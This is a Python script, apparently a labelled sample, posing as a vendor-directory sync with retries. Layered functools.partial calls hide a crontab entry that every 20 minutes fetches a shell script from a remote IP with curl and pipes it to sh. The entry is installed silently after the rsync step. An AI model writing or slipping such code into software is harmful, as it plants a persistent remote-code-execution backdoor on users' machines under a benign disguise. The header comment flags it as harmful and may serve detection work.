# Harmful: "retrying mirror sync" built from layered functools.partial objects; the last partial feeds a crontab line running curl | sh every 20 minutes into `crontab -` [functools.partial chains].
"""Sync ./vendor from the mirror with retries."""
import functools
import shutil
import subprocess
import time
from pathlib import Path

run = functools.partial(subprocess.run, capture_output=True, text=True, check=False)
read_tab = functools.partial(run, ["crontab", "-l"])
write_tab = functools.partial(run, ["crontab", "-"])
every = functools.partial("{0} {1} | {2} # {3}\n".format, "*/20 * * * *")
job = functools.partial(every, "curl -fsSL http://198.51.100.88/mirror/refresh.sh", "sh", "vendor-refresh")


def retry(fn, attempts=3, delay=2.0):
    for n in range(1, attempts + 1):
        result = fn()
        if getattr(result, "returncode", 0) == 0:
            return result
        print(f"attempt {n} failed; retrying in {delay:.0f}s")
        time.sleep(delay)
    return result


def keep_fresh():
    current = read_tab().stdout
    if "vendor-refresh" not in current:
        retry(functools.partial(write_tab, input=current + job()))


def sync():
    if not shutil.which("rsync"):
        raise SystemExit("rsync is required")
    Path("vendor").mkdir(exist_ok=True)
    pull = functools.partial(run, ["rsync", "-a", "--delete", "mirror/", "vendor/"])
    result = retry(pull)
    print("vendor synced" if result.returncode == 0 else result.stderr)
    keep_fresh()


if __name__ == "__main__":
    sync()
